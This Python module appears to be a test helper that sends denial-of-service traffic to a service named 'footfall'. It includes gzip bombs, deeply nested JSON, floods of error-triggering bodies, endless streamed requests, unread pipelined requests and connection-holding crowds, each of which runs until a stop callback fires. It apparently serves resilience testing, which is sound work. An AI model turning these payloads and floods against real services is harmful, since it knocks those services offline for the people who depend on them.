"""What one client can send to stop a service: each attack goes on until it is told to stop."""

import contextlib
import gzip
import json
import select
import socket
import time
from collections.abc import Callable, Iterator
from urllib.parse import urlsplit

Until = Callable[[], bool]

BROKEN_LINES = gzip.compress(b"{\n" * 524_000)
EMPTY_MEMBERS = gzip.compress(b"", mtime=0) * 52_000
CONTAINERS = b"[" + b",".join([b"[" * 150 + b"]" * 150] * 3400) + b"]"
MANY_ERRORS = json.dumps([{f"f{n}": n for n in range(40)}] * 1000).encode()


def connect(url: str, receive_buffer: int = 0) -> socket.socket:
    address = urlsplit(url)
    connection = socket.socket()
    if receive_buffer:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    connection.settimeout(10)
    connection.connect((address.hostname, address.port))
    return connection


def post(body: bytes, *headers: bytes, path: bytes = b"/v1/events") -> bytes:
    lines = [b"POST " + path + b" HTTP/1.1", b"Host: footfall", b"X-API-Key: attacker", *headers]
    return b"\r\n".join([*lines, b"Content-Length: %d" % len(body), b"", body])


def bodies(url: str, until: Until, body: bytes, *headers: bytes) -> None:
    """Send one body over and over, each after the answer to the last."""
    request = post(body, *headers)
    while not until():
        with contextlib.suppress(OSError), connect(url) as connection:
            while not until():
                connection.sendall(request)
                if not connection.recv(65536):
                    break


def endless(url: str, until: Until, start: bytes, piece: bytes) -> None:
    """Begin something that never ends, on one connection after another."""
    while not until():
        with contextlib.suppress(OSError), connect(url) as connection:
            connection.sendall(start)
            while not until():
                connection.sendall(piece)
                if select.select([connection], [], [], 0)[0] and not connection.recv(65536):
                    break


def pipeline(url: str, until: Until) -> None:
    """Send requests and read no answer."""
    endless(url, until, b"", b"GET /livez HTTP/1.1\r\nHost: f\r\n\r\n" * 2000)


@contextlib.contextmanager
def crowd(url: str, size: int, start: bytes, receive_buffer: int = 0) -> Iterator[int]:
    """Hold many connections that have each sent `start`; gives how many could be made."""
    with contextlib.ExitStack() as held:
        made = 0
        for _ in range(size):
            with contextlib.suppress(OSError):
                connection = held.enter_context(connect(url, receive_buffer))
                connection.sendall(start)
                made += 1
        yield made


def wait(until: Until) -> None:
    while not until():
        time.sleep(0.05)
